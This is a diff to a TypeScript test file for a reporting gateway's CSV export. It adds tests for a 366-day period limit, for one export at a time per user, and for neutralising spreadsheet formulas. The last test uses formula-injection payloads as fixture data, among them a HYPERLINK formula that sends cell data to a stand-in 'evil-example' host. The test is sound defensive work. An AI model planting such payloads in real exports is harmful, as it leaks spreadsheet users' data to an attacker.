@@ -15,7 +15,7 @@ import type { RunningService } from '../../platform/service.ts';
 import { Projector } from '../../services/reporting/projector.ts';
 import { startReporting } from '../../services/reporting/service.ts';
 import { dayStart, eventsOf, reportingConfig, scenario, ZONE, type Scenario } from '../reporting/support.ts';
-import { testLogger } from '../support/stack.ts';
+import { eventually, testLogger } from '../support/stack.ts';
 import { bearer, startApi, type Api } from './support.ts';
 
 const binary = (res: NodeJS.ReadableStream, cb: (err: Error | null, body: Buffer) => void): void => {
@@ -56,6 +56,7 @@ describe('gateway: the 9.1.3.3 export', function () {
   let api: Api;
   let reporting: RunningService;
   let closeMongo: () => Promise<void>;
+  let projector: Projector;
   const all = scenario(60, 4242);
   const tokens: Record<string, string> = {};
   const from = '2019-03-04';
@@ -71,7 +72,7 @@ describe('gateway: the 9.1.3.3 export', function () {
     reporting = await startReporting(config, testLogger);
     const mongo = await connectMongo(config.MONGO_URL);
     closeMongo = () => mongo.close();
-    const projector = new Projector(new ReportsRepository(mongo));
+    projector = new Projector(new ReportsRepository(mongo));
     for (const e of all.flatMap(eventsOf)) await projector.apply(e);
     for (const role of ['manager', 'analyst', 'operator'] as const) tokens[role] = (await api.userWith(role)).token;
     tokens.executor = (await api.userWith('executor', { executorId: 'roads' })).token;
@@ -155,5 +156,61 @@ describe('gateway: the 9.1.3.3 export', function () {
     const bad = await api.http.get(`/api/v1/reports/requests?from=${to}&to=${from}`).set(bearer(tokens.manager!));
     expect(bad.status).to.equal(400);
     expect((bad.body as { error: { message: string } }).error.message).to.match(/^query\.to/);
+  });
+
+  it('9.1.3.3 refuses a period longer than 366 days with 400 naming query.to, and exports a whole leap year', async () => {
+    const endless = await api.http.get('/api/v1/reports/requests?from=0001-01-01&to=9999-12-31&format=csv').set(bearer(tokens.manager!));
+    expect(endless.status).to.equal(400);
+    expect((endless.body as { error: { message: string } }).error.message).to.match(/^query\.to: the period is at most 366 days/);
+    const dayTooLong = await api.http.get('/api/v1/reports/requests?from=2019-01-01&to=2020-01-01').set(bearer(tokens.manager!));
+    expect(dayTooLong.status, 'a non-leap year and a day: 366 days').to.equal(200);
+    const leapAndADay = await api.http.get('/api/v1/reports/requests?from=2020-01-01&to=2021-01-01').set(bearer(tokens.manager!));
+    expect(leapAndADay.status, '367 days').to.equal(400);
+    const leap = await api.http.get('/api/v1/reports/requests?from=2020-01-01&to=2020-12-31').set(bearer(tokens.manager!));
+    expect(leap.status).to.equal(200);
+  });
+
+  it('9.1.3.3 runs one export at a time per user on every gateway replica: another while one runs gets 429 with Retry-After, and the next once it ended is served', async () => {
+    const user = await api.userWith('analyst');
+    const slots = api.mongo.db!.collection<{ _id: string; token: string; until: Date }>('export_slots');
+    const url = `/api/v1/reports/requests?from=${from}&to=${to}&format=csv`;
+    // An export of this user running on another replica holds the slot.
+    await slots.insertOne({ _id: user.id, token: 'another-replica', until: new Date(Date.now() + 60_000) });
+    const refused = await api.http.get(url).set(bearer(user.token));
+    expect(refused.status, refused.text).to.equal(429);
+    expect(refused.body.error.code).to.equal('export_running');
+    expect(Number(refused.headers['retry-after'])).to.be.greaterThan(0);
+    expect((await api.http.get(url).set(bearer(tokens.analyst!))).status, 'another user is not held up').to.equal(200);
+    // Over: that replica gave it back. Or stopped: its slot expires and is taken over.
+    await slots.deleteOne({ _id: user.id });
+    expect((await api.http.get(url).set(bearer(user.token))).status).to.equal(200);
+    const givenBack = async (): Promise<true | undefined> => ((await slots.countDocuments({ _id: user.id })) === 0 ? true : undefined);
+    await eventually(givenBack, 'the slot given back when the export ended');
+    await slots.insertOne({ _id: user.id, token: 'a-stopped-replica', until: new Date(Date.now() - 1000) });
+    expect((await api.http.get(url).set(bearer(user.token))).status).to.equal(200);
+    await eventually(givenBack, 'the expired slot taken over, then given back');
+    // Of concurrent exports of one user, those that find one running are refused; none is served twice over.
+    const many = await Promise.all([1, 2, 3, 4].map(() => api.http.get(`/api/v1/reports/requests?from=2019-01-01&to=2019-12-31&format=csv`).set(bearer(user.token))));
+    expect(many.map((r) => r.status).filter((st) => st !== 200 && st !== 429), 'only 200 or 429').to.deep.equal([]);
+    expect(many.some((r) => r.status === 200)).to.equal(true);
+  });
+
+  it("9.1.3.3 starts with ' every CSV cell that a spreadsheet would take for a formula (=, +, -, @, tab, carriage return)", async () => {
+    const [a, b, c] = scenario(3, 77);
+    const evil: Scenario = { ...a!, district: '=HYPERLINK("http://evil-example/?"&A1,"x")', category: '@SUM(1+1)', executor: '-2+3', registeredAt: dayStart('2019-04-02') + 10 * H };
+    const evil2: Scenario = { ...b!, district: '\t=1+1', category: '+SUM(2)', registeredAt: dayStart('2019-04-02') + 11 * H };
+    const evil3: Scenario = { ...c!, district: '\r=3', registeredAt: dayStart('2019-04-02') + 12 * H };
+    for (const e of [...eventsOf(evil), ...eventsOf(evil2), ...eventsOf(evil3)]) await projector.apply(e);
+    const res = await api.http.get('/api/v1/reports/requests?from=2019-04-02&to=2019-04-02&format=csv').set(bearer(tokens.manager!));
+    expect(res.status).to.equal(200);
+    const ws = await new ExcelJS.Workbook().csv.read(Readable.from([res.text.slice(1)]), { map: (v: string) => v });
+    const rows: Record<string, string>[] = [];
+    ws.eachRow((row, n) => {
+      if (n > 1) rows.push(Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c.key, row.getCell(i + 1).text])));
+    });
+    expect(rows.find((r) => r.number === evil.number)).to.include({ district: `'${evil.district}`, categoryCode: "'@SUM(1+1)", executorId: "'-2+3" });
+    expect(rows.find((r) => r.number === evil2.number)).to.include({ district: "'\t=1+1", categoryCode: "'+SUM(2)" });
+    expect(rows.find((r) => r.number === evil3.number)).to.include({ district: "'\r=3" });
+    expect(rows.find((r) => r.number === evil.number)!.categoryName, 'other cells as they were').to.equal('Категорія @SUM(1+1)');
   });
 });
